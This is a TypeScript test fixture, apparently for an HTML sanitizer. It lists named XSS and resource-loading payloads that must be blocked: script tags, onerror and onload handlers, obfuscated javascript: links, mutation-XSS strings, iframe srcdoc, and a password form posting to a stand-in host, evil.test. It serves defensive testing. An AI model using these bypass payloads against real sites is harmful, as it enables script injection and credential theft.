/** HTML that must neither run nor load, in the window and in what is exported; `ran` is what any of it would set. */
export const markup: Readonly<Record<string, string>> = {
  script: '<script>globalThis.ran = 1</script>',
  'image error': '<img src="x" onerror="globalThis.ran = 1">',
  'image from elsewhere': '<img src="https://evil.test/x.png" srcset="https://evil.test/y.png 2x">',
  'javascript link': '<a href="javascript:globalThis.ran=1">go</a>',
  'obscured javascript link': '<a href=" java\nscript&#58;globalThis.ran=1">go</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">go</a>',
  'data link': '<a href="data:text/html,<script>globalThis.ran=1</script>">go</a>',
  'svg onload':
    '<svg onload="globalThis.ran = 1"><a xlink:href="javascript:globalThis.ran=1"><text>x</text></a></svg>',
  'foreignObject mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;">',
  'svg foreignObject': '<svg><foreignObject><img src=x onerror="globalThis.ran=1"></foreignObject></svg>',
  'nested noscript': '<noscript><p title="</noscript><img src=x onerror=globalThis.ran=1>">',
  form: '<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>',
  base: '<base href="https://evil.test/"><a href="x">go</a>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  'frame with a document': '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'object and embed': '<object data="https://evil.test/x"></object><embed src="https://evil.test/x">',
  'style sheet':
    '<style>body{display:none}@import "https://evil.test/x.css";</style><link rel="stylesheet" href="https://evil.test/x.css">',
  'style address': '<p style="background:url(https://evil.test/x.png);color:red">x</p>',
  'escaped style address': '<p style="background-color:u\\72l(https://evil.test/x.png)">x</p>',
  'audio and video':
    '<video src="https://evil.test/x" autoplay onplay="globalThis.ran=1"></video><audio src="https://evil.test/x" autoplay></audio>',
  template:
    '<template><script>globalThis.ran=1</script></template><div><template shadowrootmode="open"><style>:host{position:fixed}</style></template></div>',
};
